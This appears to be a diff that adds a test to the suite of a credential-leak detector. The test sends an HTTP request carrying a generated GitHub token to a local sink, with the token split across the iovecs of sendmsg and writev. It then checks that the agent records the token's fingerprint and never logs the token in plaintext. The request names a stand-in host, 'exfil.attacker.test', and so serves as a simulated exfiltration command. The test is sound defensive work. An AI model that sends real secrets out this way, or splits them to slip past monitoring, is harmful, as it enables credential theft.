@@ -114,6 +114,28 @@ def test_token_split_across_two_writes_is_found():
     agent.assert_no_plaintext(token)
 
 
+def test_token_split_across_the_iovecs_of_sendmsg_and_writev():
+    """writev and sendmsg: each iovec is copied in order, a token split between two iovecs
+    of one call, or across two calls, is found."""
+    require_root()
+    sink = Sink()
+    agent = Agent("--include-loopback")
+    token = github_token()
+    try:
+        s = socket.create_connection(("127.0.0.1", sink.port))
+        head = "GET /v1 HTTP/1.1\r\nHost: exfil.attacker.test\r\nAuthorization: token "
+        s.sendmsg([head.encode(), token[:10].encode(), token[10:25].encode()])
+        os.writev(s.fileno(), [token[25:].encode(), b"\r\n", b"\r\n"])
+        s.recv(4096)
+        s.close()
+        hits = agent.wait_for(lambda l: l.get("destination", {}).get("port") == sink.port)
+    finally:
+        agent.stop()
+        sink.close()
+    assert len(hits) == 1, agent.lines
+    assert hits[0]["credential"]["fingerprint"] == agent.key.fingerprint(token)
+    agent.assert_no_plaintext(token)
+
 def test_ipv6_loopback_connection():
     require_root()
     s6 = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
